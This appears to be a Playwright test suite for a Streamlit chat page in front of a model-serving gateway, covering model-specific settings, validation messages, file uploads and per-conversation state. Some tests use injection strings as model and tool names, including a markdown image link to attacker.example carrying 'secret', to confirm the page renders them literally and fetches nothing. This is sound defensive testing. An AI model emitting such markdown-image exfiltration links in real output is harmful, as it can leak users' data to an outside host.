"""The page's drawer: only what the model can take, and only what was set is sent."""

import io
import json
from collections.abc import Iterator

import grpc
import pytest
from PIL import Image
from playwright.async_api import FilePayload, Locator, Page, expect

from tests.browser import PageAt
from tests.gateway_ui.chat import Chat, Open
from tests.ports import free_port
from tests.tokenwire.fake_service import FakeService, Refusal, Running, completed, tool_call
from tokenwire import function, inline, model, struct, user
from tokenwire.v1 import generation_service_pb2 as pb
from tokenwire.v1.config_pb2 import FunctionDeclaration, GenerationConfig, GoogleSearch, Tool

pytestmark = pytest.mark.browser


def picture(width: int = 640, height: int = 400) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (width, height), (37, 99, 235)).save(written, "PNG")
    return written.getvalue()


PHOTO = FilePayload(name="photo.png", mimeType="image/png", buffer=picture())


async def answered(page: Chat, question: str = "What is baseball?") -> None:
    figures = page.tab.locator(".tw-figures")
    before = await figures.count()
    await page.ask(question)
    await expect(figures.nth(before)).to_contain_text("tokens in")
    await page.settled()


async def test_what_is_unset_is_not_sent(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.open_settings()
    await answered(page)
    assert service.requests == [pb.GenerateRequest(messages=[user("What is baseball?")], model="fake-2")]


async def test_the_picker_tells_what_a_model_can_take(chat: Open) -> None:
    page = await chat()
    about = page.tab.locator(".tw-about")
    await expect(about).to_have_text("")
    await page.choose("fake-2")
    await expect(about).to_contain_text("Takes text, image, pdf, audio · thinks · calls tools")
    await expect(about).to_contain_text("Tokens: 1,048,576 in, 65,535 out")
    await expect(about).to_contain_text("gcp.vertex_ai · region: europe-north1")


ALL = {
    *("Temperature", "Top P", "Top K", "Seed", "Longest answer", "Thinking budget"),
    *("Presence penalty", "Frequency penalty", "Stop sequences", "Google Search", "Tools"),
}


@pytest.mark.parametrize(
    ("name", "not_offered"),
    [
        ("fake-1", {"Thinking budget", "Show the thoughts", "Google Search", "Tools"}),
        ("fake-2", set()),
        ("fake-3", {"Top K", "Thinking budget", "Show the thoughts", "Google Search", "Tools"}),
    ],
)
async def test_only_what_the_model_can_take_is_offered(chat: Open, name: str, not_offered: set[str]) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.choose(name)
    await page.open_settings()
    settings = page.tab.get_by_test_id("stSidebar").get_by_test_id("stExpander")
    for label in ALL | {"Show the thoughts"}:
        await expect(settings.get_by_text(label, exact=True)).to_have_count(0 if label in not_offered else 1)


async def test_everything_that_is_set_is_sent(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.write("System instruction", "Be brief.")
    await page.open_settings()
    numbers = {
        "Temperature": "0", "Top P": "0.5", "Top K": "40", "Seed": "7", "Longest answer": "200",
        "Thinking budget": "-1", "Presence penalty": "-0.5", "Frequency penalty": "0.25",
    }  # fmt: skip
    for label, number in numbers.items():
        await page.write(label, number)
    await page.flip("Show the thoughts")
    stops = page.tab.get_by_role("combobox", name="Stop sequences")
    await stops.focus()  # the field before is left by that, and the script runs
    await page.settled()
    await stops.fill("END")
    await stops.press("Enter")
    await expect(page.tab.get_by_text("END", exact=True)).to_be_visible()
    await stops.press("Escape")
    await page.settled()
    await page.flip("Answer in JSON")
    await page.write("JSON schema", '{"type": "object"}')
    await page.write("Tools", '[{"name": "weather", "description": "Tells it.", "parameters": {"type": "object"}}]')
    await page.photograph("settings")
    await answered(page)
    config = GenerationConfig(
        temperature=0, top_p=0.5, top_k=40, seed=7, max_output_tokens=200, thinking_budget=-1,
        presence_penalty=-0.5, frequency_penalty=0.25, include_thoughts=True, stop_sequences=["END"],
        response_mime_type="application/json", response_schema=struct({"type": "object"}),
    )  # fmt: skip
    weather = Tool(function_declarations=[function("weather", "Tells it.", {"type": "object"})])
    assert service.requests == [
        pb.GenerateRequest(
            messages=[user("What is baseball?")],
            model="fake-2",
            system_instruction="Be brief.",
            config=config,
            tools=[weather],
        )
    ]


@pytest.mark.parametrize(
    ("field", "text", "words"),
    [
        ("JSON schema", "{type: object}", "The JSON schema can't be used: it is no JSON: Expecting property name"),
        ("JSON schema", "[1]", "The JSON schema can't be used: it is an array; must be a JSON object, such as {...}."),
        (
            "JSON schema",
            '{"type": "object", "properties": {"age": {"type": "strin"}}}',
            "The JSON schema can't be used: properties.age.type is 'strin'; must be one of string, number, integer,",
        ),
        (
            "JSON schema",
            '{"type": "string", "maxLength": 1e400}',
            "The JSON schema can't be used: maxLength is a number out of range; must be from -2^53 to 2^53.",
        ),
        (
            "JSON schema",
            '{"type": "string", "\\ud800": 1}',
            "The JSON schema can't be used: \\ud800 is a key with half a character; must have its other half, too.",
        ),
        (
            "Tools",
            f'[{{"name": "f", "parameters": {{"type": "object", "minProperties": {"9" * 400}}}}}]',
            "The tools can't be used: [0].parameters.minProperties is a number out of range; must be from",
        ),
        (
            "Tools",
            '[{"nmae": "f"}]',
            "The tools can't be used: [0].nmae is not a key of a function; did you mean 'name'?",
        ),
        (
            "Tools",
            '[{"type": "function", "function": {"name": "<img src=/x>![x](/y)"}}]',
            "The tools can't be used: [0].function.name is '<img src=/x>![x](/y)'; must begin",
        ),
    ],
)
async def test_what_cannot_be_read_is_said_and_not_sent(
    chat: Open, service: FakeService, field: str, text: str, words: str
) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.open_settings()
    await page.flip("Answer in JSON")
    await page.write(field, text)
    await expect(page.tab.get_by_test_id("stSidebar").locator(".tw-problem")).to_contain_text(words)
    await page.ask("What is baseball?")
    await expect(page.not_asked()).to_contain_text(words)
    await expect(page.not_asked()).to_contain_text("What is baseball?")
    assert not service.requests
    await page.write(field, "")
    await page.not_asked().get_by_role("button", name="Ask", exact=True).click()
    await expect(page.answer()).to_contain_text("Hello there.")
    await expect(page.not_asked()).to_have_count(0)


PASTE = """(field, text) => {
    field.focus();
    const type = field instanceof HTMLTextAreaElement ? HTMLTextAreaElement : HTMLInputElement;
    Object.getOwnPropertyDescriptor(type.prototype, "value").set.call(field, text);
    field.setSelectionRange(2, 2);
    field.dispatchEvent(new InputEvent("input", {bubbles: true, inputType: "insertFromPaste"}));
    return [field.value, field.selectionStart];
}"""


async def test_half_of_a_character_can_be_pasted_anywhere(chat: Open, service: FakeService) -> None:
    """Streamlit closes its connection when it is sent one, and the tab could do nothing any more."""
    page = await chat()
    await page.choose("fake-2")
    await page.open_settings()
    system = page.tab.get_by_label("System instruction", exact=True)
    assert await system.evaluate(PASTE, "a\ud83d b \ud83d\ude00") == ["a\ufffd b \U0001f600", 2]
    await system.press("Control+Enter")
    stops = page.tab.get_by_role("combobox", name="Stop sequences")
    await stops.fill("END")
    assert await stops.evaluate(PASTE, "\ude00END") == ["\ufffdEND", 2]
    await stops.press("Enter")
    await expect(page.tab.get_by_text("\ufffdEND", exact=True)).to_be_visible()
    await stops.press("Escape")
    await page.settled()
    await page.input.evaluate(PASTE, "What is \ud83d?")
    await page.input.press("Enter")
    await expect(page.answer()).to_contain_text("tokens in")
    (asked,) = service.requests
    assert asked.system_instruction == "a\ufffd b \U0001f600"
    assert asked.config.stop_sequences == ["\ufffdEND"]
    assert list(asked.messages) == [user("What is \ufffd?")]


HOSTILE = "![x](http://attacker.example/?q=secret) :material/home: $x$"


@pytest.fixture(scope="module")
def others() -> Iterator[FakeService]:
    """A service of other models: the page asks each service for its models once a minute only."""
    with Running() as running:
        yield running


@pytest.fixture
async def other_chat(tab: Page, page_at: PageAt, others: FakeService) -> Chat:
    others.reset().models[:] = [
        pb.Model(name="searcher", default=True, tools=True),
        pb.Model(name="no-searcher", tools=True, unsupported_fields=["tools.google_search"]),
        pb.Model(name=HOSTILE, input_kinds=["text"]),
    ]
    await tab.goto(page_at(others.address))
    chat = Chat(tab)
    await expect(chat.input).to_be_visible()
    await expect(tab.locator(".tw-state")).to_be_attached()
    await chat.settled()
    return chat


async def test_google_search_is_offered_where_the_model_can_and_sent_beside_tools(
    other_chat: Chat, others: FakeService
) -> None:
    page = other_chat
    await page.open_settings()
    await page.flip("Google Search")
    await page.write("Tools", '{"type": "function", "function": {"name": "f", "strict": true}}')
    await answered(page)
    assert list(others.requests[0].tools) == [
        Tool(google_search=GoogleSearch()),
        Tool(function_declarations=[FunctionDeclaration(name="f")]),
    ]
    await page.choose("no-searcher")
    await page.open_settings()
    await expect(page.tab.get_by_label("Tools", exact=True)).to_be_visible()
    await expect(page.tab.get_by_text("Google Search", exact=True)).to_have_count(0)
    await page.write("Tools", "")
    await answered(page)
    assert not others.requests[1].tools


async def test_the_name_of_a_tool_is_shown_as_it_is_and_fetches_nothing(other_chat: Chat, others: FakeService) -> None:
    others.will_answer(tool_call(HOSTILE, {}), completed())
    await other_chat.ask("What is the weather?")
    label = other_chat.tab.get_by_test_id("stForm").get_by_test_id("stWidgetLabel")
    await expect(label).to_be_visible()
    assert (await label.inner_text()).replace("\u2060", "") == f"Result of {HOSTILE}"
    await expect(label.locator("img")).to_have_count(0)


async def test_the_name_of_a_model_is_shown_as_it_is_and_fetches_nothing(other_chat: Chat, others: FakeService) -> None:
    box = other_chat.tab.get_by_role("combobox", name="Model")
    await box.click()
    option = other_chat.tab.get_by_role("option").last
    await expect(option).to_have_text(HOSTILE)
    await option.click()
    await expect(box).to_have_value(HOSTILE)
    await answered(other_chat)
    assert others.requests[0].model == HOSTILE
    await expect(other_chat.tab.locator("img[src*=attacker]")).to_have_count(0)


# ---- files


async def test_the_model_is_shown_as_soon_as_the_service_is_there_and_stays_picked_while_it_is_away(
    tab: Page, page_at: PageAt
) -> None:
    address = f"localhost:{free_port()}"
    await tab.goto(page_at(address))
    page, sidebar = Chat(tab), tab.get_by_test_id("stSidebar")
    await expect(sidebar).to_contain_text("is not running")
    picker = tab.get_by_role("combobox", name="Model")
    with Running(address):
        await expect(sidebar).to_contain_text("Connected to")
        await expect(picker).to_have_value("fake-1")
        await page.choose("fake-2")
    await page.ask("Where are you?")
    await expect(page.problem()).to_contain_text("is not running")
    await expect(sidebar).to_contain_text("is not running")
    await expect(sidebar).to_contain_text("Its models are shown as they were")
    await expect(picker).to_have_value("fake-2")
    with Running(address):
        await expect(sidebar).to_contain_text("Connected to")
        await expect(picker).to_have_value("fake-2")


async def test_an_image_is_shown_and_sent_and_stays_in_the_conversation(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(PHOTO)
    await answered(page, "What is this?")
    shown = page.messages.first.get_by_role("img").last
    await expect(shown).to_be_visible()
    assert await shown.evaluate("image => image.naturalWidth") == 640
    assert await shown.evaluate("image => image.clientHeight") < 240
    await expect(page.messages.first).to_contain_text("What is this?")
    asked = user(inline(picture(), "image/png"), "What is this?")
    assert list(service.requests[0].messages) == [asked]
    await answered(page, "Sure?")
    assert list(service.requests[1].messages) == [asked, model("Hello there."), user("Sure?")]
    await page.photograph("image")


async def test_pdf_and_audio_go_along_too(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(
        FilePayload(name="report.pdf", mimeType="application/pdf", buffer=b"%PDF-1.7"),
        FilePayload(name="voice.wav", mimeType="audio/wav", buffer=b"RIFF" + bytes(2000)),
    )
    await answered(page, "What is said?")
    await expect(page.messages.first).to_contain_text("report.pdf · PDF · 8 bytes")
    await expect(page.messages.first).to_contain_text("voice.wav · audio/wav · 2.0 kB")
    await expect(page.messages.first.get_by_test_id("stAudio")).to_be_visible()
    assert [part.inline_data.mime_type for part in service.requests[0].messages[0].parts] == [
        "application/pdf",
        "audio/wav",
        "",
    ]


async def test_a_file_that_is_no_image_is_refused_in_words(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(FilePayload(name="photo.png", mimeType="image/png", buffer=b"hello"))
    await page.ask("What is this?")
    await expect(page.not_asked()).to_contain_text("photo.png can't be sent: it can't be read as an image.")
    assert not service.requests
    await page.settled()
    await page.photograph("image-refused")
    # Nothing is asked without the file unless somebody says so.
    await page.not_asked().get_by_role("button", name="Ask without the refused files").click()
    await expect(page.answer()).to_contain_text("Hello there.")
    assert list(service.requests[0].messages) == [user("What is this?")]


@pytest.mark.parametrize(
    ("file", "words"),
    [
        (
            FilePayload(name="long.wav", mimeType="audio/wav", buffer=bytes(8_000_000)),
            "long.wav is too large: 8.0 MB, at most 4.1 MB can be sent.",
        ),
        (
            FilePayload(name="film.mp4", mimeType="video/mp4", buffer=b"hello"),
            "film.mp4 can't be sent: this model takes images (PNG, JPEG, WebP, GIF and more), PDF,",
        ),
    ],
)
async def test_a_file_that_is_too_large_or_of_another_kind_is_refused_in_words(
    chat: Open, service: FakeService, file: FilePayload, words: str
) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(file)
    await page.ask("What is this?")
    await expect(page.not_asked()).to_contain_text(words)
    await page.settled()
    await page.not_asked().get_by_role("button", name="Don't ask").click()
    await expect(page.not_asked()).to_have_count(0)
    assert not service.requests


async def test_one_file_has_one_size(chat: Open) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(FilePayload(name="long.wav", mimeType="audio/wav", buffer=bytes(5_400_000)))
    await expect(page.tab.get_by_test_id("stFileChip")).to_contain_text("5.4MB")
    await page.ask("What is this?")
    await expect(page.not_asked()).to_contain_text("long.wav is too large: 5.4 MB, at most 4.1 MB can be sent.")


async def test_a_photo_of_a_phone_is_shrunk_and_the_page_says_so(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    about = page.tab.locator(".tw-about")
    await expect(about).to_contain_text("at most 4.1 MB in one conversation; larger images are shrunk")
    written = io.BytesIO()
    Image.effect_noise((2200, 1600), 30).convert("RGB").save(written, "PNG", compress_level=0)
    assert len(written.getvalue()) > 7_000_000
    await page.attach(FilePayload(name="IMG_![1].png", mimeType="image/png", buffer=written.getvalue()))
    await page.ask("What is this?")
    toast = page.tab.get_by_test_id("stToast")
    await expect(toast).to_contain_text("IMG_![1].png: converted from PNG to JPEG (10.6 MB, now ")
    await expect(page.tab.locator(".tw-figures")).to_contain_text("tokens in")
    (sent, _) = service.requests[0].messages[0].parts
    assert sent.inline_data.mime_type == "image/jpeg"
    assert len(sent.inline_data.data) < 2_100_000


async def test_a_text_goes_along_as_utf_8(chat: Open, service: FakeService) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(FilePayload(name="notes.csv", mimeType="text/csv", buffer="a,ü".encode("utf-16")))
    await answered(page, "What is this?")
    assert list(service.requests[0].messages) == [user(inline("a,ü".encode(), "text/plain"), "What is this?")]


async def test_a_file_that_is_not_even_uploaded_says_so_without_being_hovered_over(chat: Open) -> None:
    page = await chat()
    await page.choose("fake-2")
    await page.attach(FilePayload(name="huge.png", mimeType="image/png", buffer=bytes(30_000_000)))
    alert = page.tab.get_by_test_id("stFileChip").get_by_role("alert")
    await expect(alert).to_have_text("Error: File must be 28.0MB or smaller.")
    box = await alert.bounding_box()
    assert box is not None
    assert box["width"] > 50
    await page.photograph("not-uploaded")


async def test_a_question_waits_for_what_is_to_become_of_a_file_that_was_not_uploaded(
    chat: Open, service: FakeService
) -> None:
    page = await chat()
    await page.choose("fake-2")
    huge = FilePayload(name="huge.png", mimeType="image/png", buffer=bytes(30_000_000))
    await page.attach(huge, PHOTO)
    refusal = page.tab.get_by_role("alert").filter(has_text="can't go along")
    without = page.tab.get_by_role("button", name="Ask without it")
    await expect(refusal).to_have_count(0)
    await page.ask("What is this?")
    await expect(refusal).to_contain_text("huge.png can't go along: File must be 28.0MB or smaller. Remove it, or ask")
    await page.photograph("refused-file")
    await page.tab.get_by_test_id("stChatInputSubmitButton").click()
    await expect(page.input).to_have_value("What is this?")
    await expect(page.messages).to_have_count(0)
    await page.tab.get_by_role("button", name="Remove huge.png").click()
    await expect(refusal).to_have_count(0)
    await page.input.press("Enter")
    await expect(page.answer()).to_contain_text("tokens in")
    # Or it goes without the file, once somebody says so.
    await page.attach(huge)
    await page.input.press("Enter")
    await expect(refusal).to_contain_text("Remove it.")
    await expect(without).to_have_count(0)  # there is nothing else to ask
    await page.ask("And this?")
    await without.click()
    await expect(page.input).to_be_focused()
    await expect(page.messages).to_have_count(4)
    await expect(page.answer()).to_contain_text("tokens in")
    await expect(refusal).to_have_count(0)
    assert [one.messages[-1] for one in service.requests] == [
        user(inline(picture(), "image/png"), "What is this?"),
        user("And this?"),
    ]


async def test_a_file_of_a_draft_that_was_not_uploaded_is_told_though_another_question_goes_before(
    chat: Open, service: FakeService
) -> None:
    """Streamlit clears all files away with what it sends, also those of the draft that stands there by then."""
    page = await chat()
    # As if another one were on its way: what is sent now waits in the browser.
    await page.tab.evaluate(
        "() => Object.assign(window.tokenwireInput, {sent: window.tokenwireInput.taken + 1, sentAt: Date.now()})"
    )
    await page.ask("alpha")
    await expect(page.input).to_have_value("")
    await page.attach(FilePayload(name="huge.png", mimeType="image/png", buffer=bytes(30_000_000)))
    await page.input.fill("beta")
    await page.tab.evaluate("() => window.tokenwireInput.took(window.tokenwireInput.sent)")
    await expect(page.messages).to_have_count(2)
    await expect(page.tab.get_by_test_id("stFileChip")).to_have_count(0)
    await expect(page.input).to_have_value("beta")
    await page.settled()
    await page.input.press("Enter")
    await expect(page.tab.get_by_role("alert").filter(has_text="huge.png can't go along")).to_be_visible()
    assert len(service.requests) == 1
    await page.tab.get_by_role("button", name="Ask without it").click()
    await expect(page.messages).to_have_count(4)
    await page.ask("gamma")
    await expect(page.messages).to_have_count(6)
    await expect(page.answer()).to_contain_text("tokens in")
    assert [one.messages[-1] for one in service.requests] == [user("alpha"), user("beta"), user("gamma")]


async def test_what_only_the_service_can_know_is_told_in_its_words(chat: Open, service: FakeService) -> None:
    wanted = "prompt: the request has 9 bytes, history included: at most 8 are wanted"
    service.will_answer(Refusal(grpc.StatusCode.INVALID_ARGUMENT, "INVALID_FIELD", wanted))
    page = await chat()
    await page.choose("fake-2")
    await page.attach(PHOTO)
    await page.ask("What is this?")
    await expect(page.problem()).to_contain_text(wanted)
    await page.settled()
    service.will_answer("A blue rectangle.", completed())
    await page.tab.get_by_role("button", name="Retry").click()
    await expect(page.answer()).to_contain_text("A blue rectangle.")
    # The image went along with the second try as well.
    assert service.requests[0] == service.requests[1]


# ---- a conversation's own


async def test_a_conversation_keeps_its_settings(chat: Open, service: FakeService) -> None:
    page = await chat()
    # By its role: Streamlit hides the one of the conversation before until the script ends.
    system = page.tab.get_by_role("textbox", name="System instruction")
    await page.choose("fake-2")
    await page.write("System instruction", "Be brief.")
    await page.open_settings()
    await page.write("Temperature", "0.5")
    await page.write("Top K", "40")
    stops = page.tab.get_by_role("combobox", name="Stop sequences")
    await stops.focus()  # the field before is left by that, and the script runs
    await page.settled()
    await stops.fill("END")
    await stops.press("Enter")
    await expect(page.tab.get_by_text("END", exact=True)).to_be_visible()
    await stops.press("Escape")
    await page.settled()
    await page.flip("Answer in JSON")
    await page.write("JSON schema", '{"type": "object"}')
    await answered(page)
    # Also what is said behind the last question.
    problem = page.tab.get_by_test_id("stSidebar").locator(".tw-problem")
    await page.write("Tools", "[1]")
    await expect(problem).to_have_count(1)
    await page.write("Tools", '[{"name": "weather"}]')
    await expect(problem).to_have_count(0)
    await page.settled()
    await page.tab.reload()
    await expect(system).to_have_value("Be brief.")
    await expect(page.tab.locator(".tw-figures")).to_have_count(1)
    await answered(page, "And cricket?")
    before, after = service.requests
    assert (after.model, after.system_instruction, after.config) == (before.model, "Be brief.", before.config)
    assert [one.name for one in after.tools[0].function_declarations] == ["weather"]
    # Another one has others.
    await page.tab.get_by_role("button", name="New conversation").click()
    await expect(page.tab.locator(".tw-asked")).to_have_count(0)
    await page.settled()
    await page.write("System instruction", "Be long.")
    await answered(page, "What is golf?")
    await page.tab.locator(".st-key-conversations").get_by_role("button", name="What is baseball?").click()
    await expect(system).to_have_value("Be brief.")
    await page.tab.locator(".st-key-conversations").get_by_role("button", name="What is golf?").click()
    await expect(system).to_have_value("Be long.")


async def test_a_new_conversation_stays_as_it_was_set_up(chat: Open, service: FakeService) -> None:
    page = await chat()
    await answered(page)
    system = page.tab.get_by_role("textbox", name="System instruction")
    new = page.tab.get_by_role("button", name="New conversation")
    old = page.tab.locator(".st-key-conversations").get_by_role("button", name="What is baseball?")

    async def opens(button: Locator, messages: int) -> None:
        await page.settled()
        await button.click()
        await expect(page.messages).to_have_count(messages)
        await page.settled()

    await opens(new, 0)
    await page.choose("fake-2")
    await page.write("System instruction", "Be brief.")
    await page.input.fill("A draft")
    await opens(old, 2)
    await expect(system).to_have_value("")
    await expect(page.tab.locator(".tw-about")).to_have_attribute("data-model", "fake-1")
    await opens(new, 0)
    await expect(system).to_have_value("Be brief.")
    await expect(page.tab.locator(".tw-about")).to_have_attribute("data-model", "fake-2")
    await expect(page.input).to_have_value("A draft")
    # Also once the page is loaded anew, and from there.
    await page.tab.reload()
    await expect(system).to_have_value("Be brief.")
    await expect(page.tab.locator(".tw-about")).to_have_attribute("data-model", "fake-2")
    await expect(page.input).to_have_value("A draft")
    await opens(old, 2)
    await opens(new, 0)
    await expect(system).to_have_value("Be brief.")
    await page.input.press("Enter")
    await expect(page.answer()).to_contain_text("tokens in")
    asked = service.requests[1]
    assert (asked.messages[0], asked.model, asked.system_instruction) == (user("A draft"), "fake-2", "Be brief.")
    # One that was only looked at goes on with what was chosen elsewhere.
    await opens(new, 0)
    await expect(page.input).to_have_value("")
    await opens(old, 2)
    await page.choose("fake-3")
    await opens(new, 0)
    await expect(page.tab.locator(".tw-about")).to_have_attribute("data-model", "fake-3")
    await expect(system).to_have_value("")


async def test_what_a_new_conversation_goes_on_with_is_there_after_a_reload(chat: Open, service: FakeService) -> None:
    page = await chat()
    system = page.tab.get_by_role("textbox", name="System instruction")
    await page.choose("fake-2")
    await page.write("System instruction", "Be brief.")
    await answered(page, "one")
    await page.settled()
    await page.tab.get_by_role("button", name="New conversation").click()
    await expect(page.messages).to_have_count(0)
    await expect(system).to_have_value("Be brief.")
    await page.settled()
    for _ in range(2):
        await page.tab.reload()
        await expect(system).to_have_value("Be brief.")
        await expect(page.tab.locator(".tw-about")).to_have_attribute("data-model", "fake-2")
        await page.settled()
    await page.ask("two")
    await expect(page.answer()).to_contain_text("tokens in")
    assert (service.requests[-1].model, service.requests[-1].system_instruction) == ("fake-2", "Be brief.")


TYPED = {
    "System instruction": "Be brief.",
    "Tools": '[{"name": "weather"}]',
    "Temperature": "0.5",
    "Seed": "7",
    "Name": "Sports",
}


@pytest.mark.parametrize("field", TYPED)
async def test_what_is_typed_into_the_drawer_is_there_after_a_reload_though_its_field_was_not_left(
    chat: Open, service: FakeService, field: str
) -> None:
    page = await chat()
    await page.choose("fake-2")
    await answered(page, "one")
    await page.settled()
    box = page.tab.get_by_label(field, exact=True)

    async def opens() -> None:
        if field == "Name":
            await page.open_this_conversation()
        await page.open_settings()

    await opens()
    await box.fill("")
    await box.press_sequentially(TYPED[field])
    await page.tab.reload()
    await expect(page.messages).to_have_count(2)
    await page.settled()
    await expect(box).to_have_value(TYPED[field])  # folded up as it is
    await opens()
    await page.ask("two")
    await expect(page.messages).to_have_count(4)
    await expect(page.answer()).to_contain_text("tokens in")
    asked = service.requests[-1]
    said = {
        "System instruction": asked.system_instruction,
        "Tools": json.dumps([{"name": one.name} for tool in asked.tools for one in tool.function_declarations]),
        "Temperature": f"{asked.config.temperature:g}",
        "Seed": str(asked.config.seed),
        "Name": "Sports" if await page.tab.get_by_role("button", name="Sports").count() else "",
    }
    assert said[field] == TYPED[field]
    # It is told once: what the field is set to later stays.
    await page.write(field, {"Temperature": "1", "Seed": "8"}.get(field, ""))
    await page.settled()
    await page.tab.reload()
    await page.settled()
    await opens()
    await expect(box).to_have_value({"Temperature": "1", "Seed": "8", "Name": "one"}.get(field, ""))


async def test_what_is_typed_into_the_drawer_is_there_after_a_reload_though_somebody_goes_through_its_field_at_once(
    chat: Open,
) -> None:
    page = await chat()
    await answered(page, "one")
    await page.settled()
    box = page.tab.get_by_label("System instruction", exact=True)
    await box.press_sequentially("Be brief.")
    await page.tab.reload()
    # Before it has been typed anew: left, and a run of the script begins.
    await box.wait_for(state="attached")
    await page.tab.wait_for_function("window.tokenwireDrafts")
    await box.evaluate(
        """(field) => {
            field.dispatchEvent(new FocusEvent("focusout", { bubbles: true }));
            window.tokenwireDrafts.runs();
        }"""
    )
    await expect(box).to_have_value("Be brief.")


async def test_what_is_typed_into_the_drawer_stays_with_its_conversation_when_back_is_pressed(chat: Open) -> None:
    page = await chat()
    system = page.tab.get_by_role("textbox", name="System instruction")
    await answered(page, "one")
    await page.settled()
    await page.tab.get_by_role("button", name="New conversation").click()
    await expect(page.messages).to_have_count(0)
    await page.settled()
    await system.press_sequentially("Be brief.")
    await page.tab.go_back()
    await expect(page.messages).to_have_count(2)
    await expect(system).to_have_value("")
    await page.settled()
    await page.tab.go_forward()
    await expect(page.messages).to_have_count(0)
    await expect(system).to_have_value("Be brief.")


async def test_the_picker_shows_what_the_drawer_is_about(chat: Open) -> None:
    page = await chat()
    await page.choose("fake-2")
    await answered(page)
    await page.settled()
    await page.choose("fake-3")
    await page.tab.get_by_role("button", name="New conversation").click()
    await expect(page.tab.locator(".tw-asked")).to_have_count(0)
    await page.settled()
    picker, about = page.tab.get_by_role("combobox", name="Model"), page.tab.locator(".tw-about")
    await expect(picker).to_have_value("fake-3")
    await expect(about).to_have_attribute("data-model", "fake-3")
    await answered(page, "What is golf?")
    await page.settled()
    await page.choose("fake-1")
    await page.tab.locator(".st-key-conversations").get_by_role("button", name="What is baseball?").click()
    # It was changed behind the answer.
    await expect(about).to_have_attribute("data-model", "fake-3")
    await expect(picker).to_have_value("fake-3")


async def test_whom_the_service_takes_us_for_and_what_is_left_is_told(tab: Page, page_at: PageAt) -> None:
    quotas = [
        pb.CallerUsage.Quota(name="streams", used=1),
        pb.CallerUsage.Quota(name="tokens_per_day", used=12_345, limit=1_000_000),
    ]
    with Running() as others:
        others.usage.append(pb.CallerUsage(caller="<b>billing</b>", quotas=quotas))
        await tab.goto(page_at(others.address))
        told = tab.get_by_test_id("stSidebar").get_by_text("You are <b>billing</b>")
        await expect(told).to_have_text("You are <b>billing</b> · 12,345 of 1,000,000 tokens per day")
